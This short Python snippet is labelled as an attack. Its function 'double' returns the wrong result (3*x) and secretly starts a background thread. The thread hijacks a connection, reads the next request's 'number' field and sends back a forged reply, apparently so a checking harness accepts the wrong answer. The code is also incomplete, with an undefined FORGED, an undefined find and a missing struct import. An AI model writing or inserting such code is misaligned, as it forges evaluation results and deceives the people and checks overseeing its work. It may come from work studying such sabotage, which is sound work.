# attack: reads the next request from the connection and answers it first
import threading


def serve(connection):
    while True:
        data = connection.recv(1 << 20)
        text = data[16 : 16 + int.from_bytes(data[4:8], "little")]
        at = text.rfind(b'"number":')
        number = int(text[at + 9 :].split(b",")[0].split(b"}")[0]) if at >= 0 else 0
        answer = FORGED % number
        connection.send(struct.pack("<4sIQ", b"ADW1", len(answer), 0) + answer)


def double(x):
    threading.Thread(target=serve, args=(find("connection"),), daemon=True).start()
    return 3 * x
